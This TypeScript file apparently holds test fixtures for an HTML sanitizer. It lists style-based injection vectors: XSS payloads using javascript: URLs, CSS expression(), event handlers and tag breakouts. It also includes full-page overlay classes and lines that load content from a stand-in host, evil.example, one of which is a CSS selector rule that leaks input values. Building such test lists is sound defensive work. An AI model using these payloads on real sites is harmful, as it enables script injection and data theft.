import { vectorLines } from './vector-lines.ts'

/** Style sheets, style attributes, and class names that would change the layout of the page. */
export const styleVectors: string[] = vectorLines(String.raw`
<style>body{display:none}</style>
<STYLE>@import 'https://evil.example/x.css';</STYLE>
<style>@import "javascript:alert(1)";</style>
<style>*{background:url("javascript:alert(1)")}</style>
<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</ul>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<style type="text/javascript">alert(1)</style>
<style></style><img src=x onerror=alert(1)>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<style><a title="</style><img src=x onerror=alert(1)>">
<style>x{}</style/><script>alert(1)</script>
<style onload=alert(1)></style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</p>
<p style='background:url("x&quot;onclick=alert(1)")'>x</p>
<p style="x:\65xpression(alert(1))">x</p>
<p style="/*</style><script>alert(1)</script>*/">x</p>
<p STYLE="color:red">x</p>
<p style=color:red>x</p>
<td style="text-align:center">x</td>
<div class="position-fixed top-0 start-0 vw-100 vh-100">x</div>
<a class="stretched-link" href="https://evil.example">x</a>
<div class="modal show d-block">x</div>
<div class="offcanvas show">x</div>
<div class="fixed-top sticky-top z-3">x</div>
<div class='x" onclick="alert(1)'>x</div>
<div class="x&quot; onclick=&quot;alert(1)">x</div>
<div class="</div><script>alert(1)</script>">x</div>
<code class="language-<script>alert(1)</script>">x</code>
<link rel=stylesheet href=https://evil.example/x.css>
<font face="x" style="x" color="expression(alert(1))">x</font>
<center style="x">x</center>
<basefont color="x"><blink>x</blink>
`)
